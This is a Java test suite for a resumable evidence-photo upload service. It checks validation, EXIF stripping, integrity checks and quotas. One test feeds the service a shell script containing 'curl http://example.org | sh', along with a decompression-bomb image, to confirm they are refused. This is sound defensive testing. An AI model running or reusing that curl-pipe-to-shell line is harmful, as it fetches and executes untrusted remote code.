package org.chuishao.grid.evidence;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.chuishao.grid.evidence.Uploads.GRID;
import static org.chuishao.grid.evidence.Uploads.PATH;
import static org.chuishao.grid.evidence.Uploads.WORKER;
import static org.chuishao.grid.evidence.Uploads.announce;
import static org.chuishao.grid.evidence.Uploads.announcement;
import static org.chuishao.grid.evidence.Uploads.assignment;
import static org.chuishao.grid.evidence.Uploads.patch;
import static org.chuishao.grid.evidence.Uploads.send;
import static org.chuishao.grid.evidence.Uploads.sendPieces;
import static org.chuishao.grid.evidence.Uploads.sha256;
import static org.chuishao.grid.log.Callers.as;
import static org.chuishao.grid.log.Callers.worker;
import static org.hamcrest.Matchers.closeTo;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.nullValue;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.JsonConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.path.json.config.JsonPathConfig.NumberReturnType;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import org.chuishao.grid.evidence.picture.PictureFiles;
import org.chuishao.grid.log.GridTables;
import org.chuishao.testkit.Bearer;
import org.chuishao.testkit.MeshResource;
import org.junit.jupiter.api.Test;

@QuarkusTest
@QuarkusTestResource(MeshResource.class)
class UploadTest {

    private static final RestAssuredConfig DOUBLES =
            RestAssuredConfig.config().jsonConfig(JsonConfig.jsonConfig().numberReturnType(NumberReturnType.DOUBLE));

    @Test
    void aPhotoSaysWhereAndWhenAndIsShownWithoutIt() {
        String assignment = assignment("路灯不亮", GRID);
        byte[] file = PictureFiles.fromPhone(64, 48);
        Map<String, Object> announcement = announcement(assignment, file);
        announcement.put("capturedAt", "2026-11-20T08:30:00+08:00");
        announcement.put("stage", "BEFORE");
        announcement.put("position", Map.of("longitude", 123.41, "latitude", 41.79, "crs", "GCJ02"));
        String id = (String) announcement.get("id");
        announce(WORKER, announcement)
                .then()
                .statusCode(201)
                .header("Location", containsString(PATH + "/" + id))
                .header("Upload-Offset", "0")
                .body("state", is("RECEIVING"));
        as(WORKER).get(PATH + "/" + id + "/content").then().statusCode(409);

        sendPieces(id, file).then().statusCode(200).body("state", is("STORED"));

        as(WORKER)
                .config(DOUBLES)
                .get(PATH + "/" + id)
                .then()
                .header("Upload-Offset", Integer.toString(file.length))
                .body("stage", is("BEFORE"))
                .body("capturedAt", is("2026-11-20T00:30:00Z"))
                .body("position.crs", is("GCJ02"))
                .body("position.longitude", is(123.41))
                .body("converted.longitude", closeTo(123.404, 0.003))
                .body("exifAt", is("2026-11-20T00:30:05Z"))
                .body("exifPosition.latitude", closeTo(41.8, 1e-9))
                .body("stored.type", is("image/jpeg"))
                .body("stored.width", is(48));
        byte[] shown = as(WORKER)
                .get(PATH + "/" + id + "/content")
                .then()
                .statusCode(200)
                .contentType("image/jpeg")
                .extract()
                .asByteArray();
        as(WORKER).get(PATH + "/" + id).then().body("stored.sha256", is(sha256(shown)));
        assertThat(new String(shown, StandardCharsets.ISO_8859_1)).doesNotContain("Exif", "2026:11:20");
        assertThat(PictureFiles.read(shown).getHeight()).isEqualTo(64);
        as(WORKER).head(PATH + "/" + id).then().statusCode(200).header("Upload-Offset", Integer.toString(file.length));
    }

    @Test
    void aPhotoOfManyPiecesIsShownWhole() {
        byte[] file = PictureFiles.large(600_000, 7);
        String id = send(assignment("路面塌陷", GRID), file)
                .then()
                .statusCode(200)
                .extract()
                .path("id");
        byte[] shown = as(WORKER)
                .get(PATH + "/" + id + "/content")
                .then()
                .statusCode(200)
                .contentType("image/jpeg")
                .header("X-Content-Type-Options", "nosniff")
                .extract()
                .asByteArray();
        assertThat(shown).hasSizeGreaterThan(200_000);
        as(WORKER).get(PATH + "/" + id).then().body("stored.sha256", is(sha256(shown)));
    }

    @Test
    void aPhotoMayBeNamedBeforeItHasArrived() {
        String assignment = assignment("垃圾满溢", GRID);
        byte[] file = PictureFiles.file(PictureFiles.halves(40, 30), "png");
        Map<String, Object> announcement = announcement(assignment, file);
        // as digits fall by chance, a mobile's number among them
        announcement.put("id", "8c0ffee0-1234-4234-8234-a13900001234");
        String id = (String) announcement.get("id");
        as(WORKER)
                .post("/api/v1/assignments/" + assignment + "/signatures")
                .then()
                .statusCode(201);
        as(WORKER)
                .header("Idempotency-Key", "r")
                .body(Map.of("solved", true, "result", "已清运", "evidence", List.of(id)))
                .post("/api/v1/assignments/" + assignment + "/resolutions")
                .then()
                .statusCode(201);

        announce(WORKER, announcement).then().statusCode(201);
        sendPieces(id, file).then().statusCode(200).body("state", is("STORED")).body("stored.type", is("image/png"));
        as(WORKER).get(PATH + "?assignment=" + assignment).then().body("items.id", is(List.of(id)));
    }

    @Test
    void itGoesOnWhereItStopped() {
        byte[] file = PictureFiles.WEBP;
        Map<String, Object> announcement = announcement(assignment("井盖缺失", GRID), file);
        announcement.put("type", "image/webp");
        String id = (String) announcement.get("id");
        announce(WORKER, announcement);
        patch(WORKER, id, 0, Arrays.copyOf(file, 100)).then().statusCode(200).body("offset", is(100));

        patch(WORKER, id, 0, Arrays.copyOf(file, 100)).then().statusCode(409).body("offset", is(100));
        patch(WORKER, id, 150, Arrays.copyOfRange(file, 150, 200)).then().statusCode(409);
        patch(WORKER, id, 100, new byte[0]).then().statusCode(400);
        patch(WORKER, id, 100, new byte[file.length]).then().statusCode(400);
        announce(WORKER, announcement).then().statusCode(201).body("offset", is(100));
        patch(WORKER, id, 100, Arrays.copyOfRange(file, 100, file.length))
                .then()
                .statusCode(200)
                .body("state", is("STORED"));
        patch(WORKER, id, 100, Arrays.copyOfRange(file, 100, file.length))
                .then()
                .statusCode(409)
                .body("state", is("STORED"));
        announce(WORKER, announcement).then().statusCode(201).body("state", is("STORED"));
        announcement.put("size", 5);
        announce(WORKER, announcement).then().statusCode(422).body("errors.field", hasItem("id"));
    }

    @Test
    void whatWasDamagedOnTheWayIsSentAgain() {
        byte[] file = PictureFiles.WEBP;
        byte[] damaged = file.clone();
        damaged[60] ^= 1;
        Map<String, Object> announcement = announcement(assignment("水管爆裂", GRID), file);
        String id = (String) announcement.get("id");
        announce(WORKER, announcement);
        sendPieces(id, damaged).then().statusCode(422).body("errors[0].message", containsString("SHA-256"));
        as(WORKER).get(PATH + "/" + id).then().body("state", is("RECEIVING")).body("offset", is(0));
        sendPieces(id, file).then().statusCode(200).body("state", is("STORED")).body("refusal", nullValue());
    }

    @Test
    void badFilesAreRefusedWithWordsAndLeaveNothing() throws IOException {
        String assignment = assignment("私搭乱建", GRID);
        long before = files();

        byte[] script = "#!/bin/sh\ncurl http://example.org | sh\n".getBytes(UTF_8);
        Map<String, Object> announcement = announcement(assignment, script);
        String id = (String) announcement.get("id");
        announce(WORKER, announcement);
        sendPieces(id, script).then().statusCode(422).body("errors[0].message", containsString("no JPEG, PNG or WebP"));
        send(assignment, PictureFiles.bomb(30_000))
                .then()
                .statusCode(422)
                .body("errors[0].message", containsString("30000 x 30000"));
        Map<String, Object> huge = announcement(assignment, script);
        huge.put("size", 50_000_000);
        announce(WORKER, huge).then().statusCode(413).body("errors[0].message", containsString("50000000 bytes"));
        huge.put("size", 5_000);
        huge.put("type", "text/html");
        announce(WORKER, huge).then().statusCode(400).body("errors.field", hasItem("type"));

        as(WORKER).get(PATH + "/" + id).then().body("state", is("REFUSED")).body("refusal", containsString("no JPEG"));
        assertThat(files()).isEqualTo(before);
        assertThat(GridTables.text("select count(*)::text from evidence_piece p join evidence e on e.id = p.evidence_id"
                        + " where e.state = 'REFUSED'"))
                .isEqualTo("0");
    }

    @Test
    void anotherFileInPlaceOfARefusedOneHasItsOwnPlaceAndTime() {
        byte[] script = "#!/bin/sh\n".getBytes(UTF_8);
        Map<String, Object> announcement = announcement(assignment("占道经营", GRID), script);
        announcement.put("capturedAt", "2026-11-20T08:30:00+08:00");
        announcement.put("stage", "BEFORE");
        announcement.put("position", Map.of("longitude", 123.41, "latitude", 41.79, "crs", "GCJ02"));
        String id = (String) announcement.get("id");
        announce(WORKER, announcement);
        sendPieces(id, script).then().statusCode(422);

        announcement.put("sha256", sha256(PictureFiles.WEBP));
        announcement.put("size", PictureFiles.WEBP.length);
        announcement.put("capturedAt", "2026-11-20T09:45:00+08:00");
        announcement.put("stage", "AFTER");
        announcement.put("position", Map.of("longitude", 123.5, "latitude", 41.8, "crs", "WGS84"));
        announce(WORKER, announcement).then().statusCode(201).body("state", is("RECEIVING"));
        sendPieces(id, PictureFiles.WEBP).then().statusCode(200).body("state", is("STORED"));
        as(WORKER)
                .config(DOUBLES)
                .get(PATH + "/" + id)
                .then()
                .body("capturedAt", is("2026-11-20T01:45:00Z"))
                .body("stage", is("AFTER"))
                .body("position.crs", is("WGS84"))
                .body("position.longitude", is(123.5));

        announcement.put("assignment", assignment("占道经营", GRID));
        announce(WORKER, announcement).then().statusCode(422).body("errors.field", hasItem("id"));
    }

    @Test
    void aUnitHasAQuotaOfADay() {
        String grid = "210102001005101";
        String assignment = assignment("共享单车乱停", grid);
        Map<String, Object> announcement = announcement(assignment, PictureFiles.WEBP);
        Bearer worker = worker("W-" + grid + "-1");
        byte[] script = "#!/bin/sh\n".getBytes(UTF_8);
        Map<String, Object> refused = announcement(assignment, script);
        announce(worker, refused);
        patch(worker, (String) refused.get("id"), 0, script).then().statusCode(422);
        announcement.put("size", 20_000_000);
        int taken = 0;
        int status = 201;
        while (status == 201 && taken < 200) {
            announcement.put("id", UUID.randomUUID().toString());
            status = announce(worker, announcement).statusCode();
            taken += status == 201 ? 1 : 0;
        }
        assertThat(status).isEqualTo(429);
        assertThat(taken).isEqualTo(107);
        announcement.put("id", refused.get("id"));
        announce(worker, announcement).then().statusCode(429);
    }

    private static long files() throws IOException {
        Path folder = Path.of("target/evidence");
        if (!Files.exists(folder)) {
            return 0;
        }
        try (Stream<Path> all = Files.walk(folder)) {
            return all.filter(Files::isRegularFile).count();
        }
    }
}
